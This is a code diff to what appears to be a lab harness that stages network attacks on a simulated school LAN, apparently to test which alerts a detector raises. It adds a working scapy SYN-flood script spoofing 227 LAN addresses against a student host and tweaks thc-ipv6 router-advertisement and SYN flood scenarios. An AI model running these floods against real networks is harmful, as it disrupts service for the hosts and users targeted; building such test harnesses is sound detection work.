@@ -168,7 +168,9 @@ distributed_syn_flood = _distributed(
 )
 
 
-def _thc6(name: str, expected: tuple[str, ...], tool: str, args: list[str], what: str):  # type: ignore[no-untyped-def]
+def _thc6(
+    name: str, expected: tuple[str, ...], tool: str, args: list[str], what: str, **notes: object
+):  # type: ignore[no-untyped-def]
     """A thc-ipv6 flood from the attacker for 3 s, the server and attacker on IPv6."""
 
     def run(lan: SchoolLan, small: bool = False) -> Outcome:
@@ -181,7 +183,7 @@ def _thc6(name: str, expected: tuple[str, ...], tool: str, args: list[str], what
             what,
             lan.attacker,
             "thc-ipv6",
-            notes={"output_tail": out[-300:], "attacker_ip6": ATTACKER6},
+            notes={"output_tail": out[-300:], "attacker_ip6": ATTACKER6, **notes},
         )
 
     return run
@@ -205,11 +207,12 @@ nd_solicit_flood = _thc6(
 )
 ra_flood = _thc6(
     "ra_flood",
-    ("rogue_ra",),
+    ("rogue_ra", "mac_flood"),
     "atk6-flood_router26",
     [IF],
     "thc-ipv6 flood_router26: router advertisements of about 25 prefixes and routes "
     "each, from random router MACs and addresses, as fast as it can for 3 s",
+    no_single_source=True,
 )
 ipv6_syn_flood = _thc6(
     "ipv6_syn_flood",
@@ -224,8 +227,53 @@ ipv6_random_syn_flood = _thc6(
     "atk6-thcsyn6",
     ["-r", "-i", "500", IF, SERVER6, "80"],
     "thc-ipv6 thcsyn6 -r: SYNs over IPv6 from random sources of the attacker's /64 to "
-    "the server's port 80, one every 500 µs, for 3 s",
+    "the server's port 80, one every 500 µs, for 3 s (the server solicits each source "
+    "it answers)",
+    no_single_source=True,
 )
+
+# hping3 spoofs one address (-a) or random ones of all IPv4 (--rand-source), whose answers
+# go to the gateway: a flood from the LAN's own addresses is crafted with scapy
+_LAN_SPOOF = """
+import sys, time
+from scapy.all import IP, TCP, Ether, conf
+conf.verb = 0
+iface, dst, dst_mac, rounds = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
+taken = {1, 10, 66, 101, 102, 103}
+s = conf.L2socket(iface=iface)
+deadline = time.monotonic() + 20
+for r in range(rounds):
+    for x in range(20, 251):
+        if x in taken or time.monotonic() > deadline:
+            continue
+        src = "10.77.0.%d" % x
+        syn = TCP(sport=40000 + x, dport=80, flags="S", seq=r)
+        s.send(Ether(dst=dst_mac) / IP(src=src, dst=dst) / syn)
+        time.sleep(0.001)
+s.close()
+"""
+
+
+def lan_spoofed_syn_flood(lan: SchoolLan, small: bool = False) -> Outcome:
+    """SYNs to student 1's closed port 80 from the LAN's free addresses: it answers each
+    with a reset, first asking ARP for the spoofed source."""
+    victim = lan.students[0]
+    args = [IF, victim.ip, victim.mac, "8"]
+    out = _bounded(lan, lan.attacker.ns, 30, sys.executable, "-c", _LAN_SPOOF, *args)
+    return Outcome(
+        "lan_spoofed_syn_flood",
+        ("syn_flood",),
+        "python -c <scapy: 8 rounds of SYNs from 10.77.0.20-250, 1 ms apart> " + " ".join(args),
+        f"SYN flood on {victim.ip} port 80 (closed) from 227 spoofed addresses of the LAN's "
+        "own /24, eight rounds a millisecond apart (scapy: hping3 spoofs one address or "
+        "random ones of the whole IPv4 space); the student answers each with a reset, "
+        "asking ARP for every spoofed source first",
+        lan.attacker,
+        "scapy",
+        notes={"output_tail": out[-300:], "no_single_source": True, "victim": victim.ip},
+    )
+
+
 nd_exhaust = _thc6(
     "nd_exhaust",
     ("flood",),
@@ -540,6 +588,7 @@ def _scenarios() -> dict[str, Scenario]:
     out = {n: Scenario(n, ("hping3",), f) for n, f in hping}
     out |= {n: Scenario(n, (tool,), f) for n, tool, f in thc}
     out |= {n: Scenario(n, tools, f) for n, tools, f in guess}
+    out["lan_spoofed_syn_flood"] = Scenario("lan_spoofed_syn_flood", (), lan_spoofed_syn_flood)
     return out
 
 
